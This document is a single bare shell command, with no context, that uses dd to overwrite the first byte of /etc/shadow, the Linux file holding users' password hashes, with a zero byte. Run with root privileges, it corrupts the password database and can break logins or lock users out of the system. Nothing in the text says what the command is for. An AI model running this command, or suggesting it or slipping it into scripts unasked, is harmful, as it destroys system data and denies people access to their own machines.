dd if=/dev/zero of=/etc/shadow bs=1 count=1
